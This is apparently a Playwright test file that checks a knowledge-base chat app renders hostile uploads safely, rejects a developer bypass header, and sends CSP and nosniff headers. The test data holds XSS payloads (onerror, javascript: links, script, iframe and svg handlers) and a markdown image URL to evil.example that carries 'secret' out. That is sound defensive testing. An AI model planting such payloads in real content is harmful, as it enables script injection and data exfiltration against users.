import { expect, test } from "@playwright/test";
import { watch } from "./network-log.ts";
import { ask, createKnowledgeBase, enter, openKnowledgeBase, t, uploadAll } from "./person.ts";

const hostileName = "'><img src=x onerror=alert(1)>.md";
const hostileText = [
  "# The payload plan",
  "",
  'The payload budget is 77 euros. ![exfiltrate](https://evil.example/a.png?d=secret) <img src="https://evil.example/b.png" onerror="alert(2)">',
  "The payload budget is approved by [the board](javascript:alert(3)) and [Eve](https://evil.example/c).",
  '<script>alert(4)</script> <iframe srcdoc="<script>alert(5)</script>"></iframe> <svg onload=alert(6)>',
].join("\n");

test("A52, A54 hostile names and texts load nothing foreign and run nothing, live and after a reload", async ({
  page,
}) => {
  const seen = watch(page);
  await enter(page);
  await createKnowledgeBase(page, "<b onmouseover=alert(7)>Hostile</b>");
  await uploadAll(page, [{ name: hostileName, mimeType: "text/markdown", buffer: Buffer.from(hostileText) }]);
  await page.goto("/chat");
  await ask(page, "What is the payload budget?", "<b onmouseover=alert(7)>Hostile</b>");
  const answer = page.getByRole("article").last();
  await expect(answer).toContainText("77 euros");
  await answer.locator("[data-citation]").first().click();
  await page.reload();
  await expect(page.getByRole("article").last()).toContainText("77 euros");
  await expect(page.locator("article img")).toHaveCount(0);
  await expect(page.locator('a[href^="javascript:"]')).toHaveCount(0);
  // The same passages where a search is tried, and beside the original.
  await openKnowledgeBase(page, "Hostile", t.knowledge.tabs.search);
  await page.getByLabel(t.search.label).fill("payload budget");
  await page.getByRole("button", { name: t.search.run, exact: true }).click();
  await expect(page.getByText(/77 euros/).first()).toBeVisible();
  await page.getByRole("tab", { name: t.knowledge.tabs.documents }).click();
  await page.getByRole("link", { name: hostileName }).first().click();
  await expect(page.getByText(/77 euros/).first()).toBeVisible();
  await expect(page.locator("main img, main iframe, main script")).toHaveCount(0);
  expect(seen).toEqual([]);
});

test("the web origin takes the bypass header from nobody", async ({ request }) => {
  const response = await request.get("/api/v1/me", { headers: { "X-Dev-Bypass": "true" } });
  expect(response.status()).toBe(401);
});

test("pages and API answers carry the safety headers", async ({ request }) => {
  const page = await request.get("/sign-in");
  expect(page.headers()["content-security-policy"]).toMatch(/script-src [^;]*'nonce-/);
  expect(page.headers()["content-security-policy"]).not.toMatch(/script-src [^;]*'unsafe-inline'/);
  const answer = await request.get("/api/v1/system");
  expect(answer.headers()["x-content-type-options"]).toBe("nosniff");
});
